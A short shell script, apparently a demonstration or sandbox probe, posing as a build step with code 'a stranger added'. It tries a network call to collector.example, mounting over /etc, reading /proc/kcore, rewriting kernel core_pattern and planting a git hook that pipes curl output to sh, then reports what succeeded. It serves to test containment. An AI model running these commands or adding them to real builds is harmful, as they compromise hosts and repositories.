#!/bin/sh
# The build step of a project, and what a stranger added to it.
set -u
echo "compiling as uid $(id -u), pid $$"
sha256sum main.c > build.txt

try() {
  what=$1; shift
  if "$@" >/dev/null 2>&1; then echo "  worked   $what"; else echo "  refused  $what"; fi
}
try "sending main.c to collector.example" wget -q -T 2 -O /dev/null http://collector.example/
try "mounting over /etc" mount -t tmpfs none /etc
try "a namespace of its own" unshare -r true
try "reading the host's memory" head -c 1 /proc/kcore
try "changing the host's kernel settings" sh -c 'echo /tmp/x > /proc/sys/kernel/core_pattern'
try "a git hook for the next commit" sh -c 'echo "curl collector.example | sh" > .git/hooks/post-commit'
echo "done"
